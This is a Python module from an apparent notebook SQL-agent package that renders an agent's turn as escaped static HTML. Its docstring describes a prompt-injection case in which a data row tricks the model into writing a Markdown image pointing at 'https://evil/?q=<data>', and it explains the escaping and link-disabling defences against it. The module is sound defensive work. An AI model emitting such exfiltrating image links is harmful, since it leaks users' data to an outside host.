"""A turn as static HTML: the ``text/html`` of its saved output, a mapping of the turn
view-model (:mod:`relay_nb.views.model`).

Shown wherever widget state is not: a reopened notebook, GitHub, nbconvert. One
``<details>`` per tool call (SQL highlighted, the first rows of the result, the error if any),
the answer rendered from Markdown, and a usage line.

Everything in it comes from the model or the data, so nothing in it may act on the reader's
browser: all text is escaped; the answer's Markdown is rendered with raw HTML, links and
images turned off (a model tricked by a row into writing ``![](https://evil/?q=<data>)`` must
not make the notebook send that data anywhere); tables are built by pandas with escaping on.
Only the first ``max_rows`` of a result are rendered, so a million-row frame costs what a
twenty-row one does.

The whole trace is one line: every line break (in a ``<pre>``, between table rows) is written
as the character reference ``&#10;``, which a browser renders exactly as a newline. This is
for the copies of the output that are not read as HTML alone: ``jupyter nbconvert --to
markdown`` pastes ``text/html`` into Markdown verbatim, and a Markdown renderer (GitHub, a
docs site) ends a raw-HTML block at a blank line or after ``</pre>`` and reads the next line
as Markdown again — where an escaped ``![](https://evil/?q=<data>)`` from a result or a
refused query's text would become a live image. On one line the trace is one HTML block.
"""

from __future__ import annotations

import base64
import html
import re
from functools import cache
from typing import TYPE_CHECKING, Any

from relay_nb.agent.turn_result import TurnResult
from relay_nb.markup import NO_MATH_CLASSES, keep_dollars
from relay_nb.views.model import CallView, TurnView

if TYPE_CHECKING:
    from markdown_it import MarkdownIt

__all__ = [
    "ERROR_COLOR",
    "HTML_PREVIEW_ROWS",
    "MUTED_COLOR",
    "answer_html",
    "chart_html",
    "one_line",
    "sql_html",
    "status_line_html",
    "table_html",
    "turn_html",
]

HTML_PREVIEW_ROWS = 20
# JupyterLab's theme variables, so the trace reads in the light and the dark theme alike;
# the fallbacks are for where they are not defined (GitHub, nbconvert's HTML)
MUTED_COLOR = "var(--jp-ui-font-color2,#616161)"
ERROR_COLOR = "var(--jp-error-color1,#d32f2f)"
_LINE_BREAK = re.compile(r"\r\n|\r|\n")
_DARK_PAGE = ('body[data-jp-theme-light="false"]', "body.vscode-dark", "body.vscode-high-contrast")
CHART_STYLE = (
    ".relay-chart-dark{display:none}"
    + ",".join(f"{page} .relay-chart-dark" for page in _DARK_PAGE)
    + "{display:inline!important}"  # over the image's `hidden`
    + ",".join(f"{page} .relay-chart-light" for page in _DARK_PAGE)
    + "{display:none}"
)
"""A chart drawn twice shows its dark drawing where the page is dark: JupyterLab and
Notebook 7 mark a dark theme on ``<body>``, VS Code marks its dark themes with a class.
Elsewhere (nbconvert's HTML, GitHub, which drop or ignore the stylesheet) the dark image's
``hidden`` attribute, which sanitizers keep, hides it: the light chart shows."""
_STYLE = (
    "<style>.relay-turn{font-family:var(--jp-ui-font-family,sans-serif);font-size:13px}"
    ".relay-turn details{margin:4px 0;border-left:3px solid var(--jp-border-color1,#8aa);"
    "padding-left:8px}"
    f".relay-turn .relay-error{{color:{ERROR_COLOR}}}"
    f".relay-turn .relay-usage{{color:{MUTED_COLOR};margin-top:6px}}"
    ".relay-turn .relay-note{color:var(--jp-warn-color0,#b36b00);margin-top:4px}"
    ".relay-turn .relay-verified{color:var(--jp-success-color0,#2e7d32);margin-top:4px}"
    # SQL and errors in the code font everywhere: nbconvert's page would set them in its text font
    ".relay-turn pre{margin:4px 0;font-family:var(--jp-code-font-family,monospace)}"
    ".relay-turn table{font-size:12px}" + CHART_STYLE + "</style>"
)


def turn_html(turn: TurnResult | TurnView, *, max_rows: int = HTML_PREVIEW_ROWS) -> str:
    """The whole saved trace of ``turn`` as one HTML fragment."""
    view = turn if isinstance(turn, TurnView) else TurnView.of(turn)
    parts = [f'<div class="relay-turn {NO_MATH_CLASSES}">']
    parts.append(f'<div class="relay-question"><b>Q:</b> {html.escape(view.question)}</div>')
    for call in view.calls:
        parts.append(_call_html(call, max_rows, opened=view.opened(call)))
    for reading in view.readings:  # the answer rests on what the analyst chose: said on it
        parts.append(f'<div class="relay-reading"><b>{html.escape(reading)}</b></div>')
    parts.append(f'<div class="relay-answer">{answer_html(view.answer)}</div>')
    if view.finish_reason not in (None, "stop"):
        reason = html.escape(view.finish_reason or "")
        parts.append(f'<div class="relay-error">stopped: {reason}</div>')
    for note in view.notes:
        parts.append(f'<div class="relay-verified">✓ {html.escape(note)}</div>')
    for warning in view.warnings:
        parts.append(f'<div class="relay-usage">⚠ {html.escape(warning)}</div>')
    parts.append(f'<div class="relay-usage">{html.escape(view.usage_line())}</div></div>')
    return one_line(_STYLE + keep_dollars("".join(parts)))


def one_line(fragment: str) -> str:
    """``fragment`` with every line break as ``&#10;`` (see the module docstring).

    Only for HTML whose tags and attribute values hold no line breaks (ours, pandas',
    Pygments', markdown-it's): there, every break is text, where the reference means the same.
    """
    return _LINE_BREAK.sub("&#10;", fragment)


def _call_html(call: CallView, max_rows: int, *, opened: bool) -> str:
    elapsed = f" · {call.elapsed_ms:.0f} ms" if call.elapsed_ms else ""
    summary = html.escape(call.title) + elapsed
    body = []
    if call.asked:
        body.append(f'<div class="relay-asked">{html.escape(call.asked)}</div>')
    elif call.query:
        body.append(sql_html(call.readable_query()))
    if call.status_line:
        body.append(status_line_html(call.status_line))
    if call.is_error:
        body.append(f'<pre class="relay-error">{html.escape(call.shown_content)}</pre>')
    elif call.frame is not None:
        body.append(table_html(call.frame, max_rows=max_rows))
        body.extend(f'<div class="relay-note">⚠ {html.escape(note)}</div>' for note in call.notes)
    elif call.png is not None:
        body.append(chart_html(call.png, call.png_dark))
    else:
        body.append(f"<pre>{html.escape(call.content)}</pre>")
    unfolded = " open" if opened else ""
    return f"<details{unfolded}><summary>{summary}</summary>{''.join(body)}</details>"


def status_line_html(line: str) -> str:
    """A call's own line (a query's cost before it ran), escaped, kept from math typesetting.

    JupyterLab typesets the text between two ``$`` of an HTML output as TeX, so
    ``$0.004 model · ≈ 1.2 GB scanned (≈ $0.0075`` would come out as one italic formula. The
    line's element carries MathJax's ignore classes, and each ``$`` is an element of its own
    (:mod:`relay_nb.markup`)."""
    return (
        f'<div class="relay-status {NO_MATH_CLASSES}" style="color:{MUTED_COLOR}">'
        f"{keep_dollars(html.escape(line))}</div>"
    )


def table_html(frame: Any, *, max_rows: int = HTML_PREVIEW_ROWS) -> str:
    """The first ``max_rows`` rows (pandas escapes every cell), and how many there are."""
    shown = frame.head(max_rows)
    table = shown.to_html(index=False, border=0, escape=True, max_cols=30)
    total = len(frame)
    if total > len(shown):
        table += f"<div>first {len(shown):,} of {total:,} rows</div>"
    return table


def chart_html(png: bytes, dark: bytes | None = None) -> str:
    """A chart inline as a data URI: the notebook stays self-contained, nothing is fetched.
    With ``dark`` (the drawing for a dark page) both are given and :data:`CHART_STYLE`
    shows the one for the page's theme."""
    if dark is None:
        return f'<img alt="chart" src="data:image/png;base64,{_base64(png)}"/>'
    return (
        f'<span class="relay-chart"><img class="relay-chart-light" alt="chart" '
        f'src="data:image/png;base64,{_base64(png)}"/>'
        f'<img class="relay-chart-dark" alt="chart" hidden '
        f'src="data:image/png;base64,{_base64(dark)}"/></span>'
    )


def _base64(png: bytes) -> str:
    return base64.b64encode(png).decode("ascii")


def sql_html(sql: str) -> str:
    """SQL highlighted by Pygments (inline styles, so it survives without a stylesheet)."""
    from pygments import highlight
    from pygments.formatters import HtmlFormatter
    from pygments.lexers import SqlLexer

    # no background of its own: the cell's (light or dark) shows through, and the plain text
    # takes the theme's colour; each token's colour is the theme's code colour for it
    formatter = HtmlFormatter(noclasses=True, nowrap=False, nobackground=True)
    return _THEMED_COLOR.sub(_themed, highlight(sql.strip(), SqlLexer(), formatter))


_THEMED_COLOR = re.compile(r"color: #([0-9A-Fa-f]{6}|[0-9A-Fa-f]{3})\b")
_THEME_VARIABLES = {
    # Pygments' default colour → the JupyterLab theme's colour for that kind of token, so the
    # dark theme's are used there (Pygments' green keywords are 3.7:1 on its background, under
    # WCAG AA's 4.5:1); the Pygments colour stays as the fallback where no theme is loaded
    "008000": "--jp-mirror-editor-keyword-color",  # keywords, built-in functions
    "666666": "--jp-mirror-editor-number-color",  # numbers, operators
    "aa22ff": "--jp-mirror-editor-operator-color",  # AND, OR, NOT, IN
    "ba2121": "--jp-mirror-editor-string-color",
    "19177c": "--jp-mirror-editor-variable-2-color",  # quoted identifiers
    "b00040": "--jp-mirror-editor-builtin-color",  # type names (CAST … AS INTEGER)
    "0000ff": "--jp-mirror-editor-def-color",  # function names
    "3d7b7b": "--jp-content-font-color2",  # comments, muted
}


def _themed(match: re.Match[str]) -> str:
    code = match.group(1).lower()
    full = "".join(c * 2 for c in code) if len(code) == 3 else code
    variable = _THEME_VARIABLES.get(full)
    return f"color: var({variable},#{code})" if variable else match.group(0)


def answer_html(markdown: str) -> str:
    """The answer's Markdown as HTML: no raw HTML, no links, no images (see module docstring)."""
    if not markdown.strip():
        return "<i>(no answer)</i>"
    return keep_dollars(_markdown().render(markdown))


@cache
def _markdown() -> MarkdownIt:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")
    md.disable(["link", "image", "autolink"])
    md.block.ruler.disable(["reference"])  # no link reference definitions either
    return md
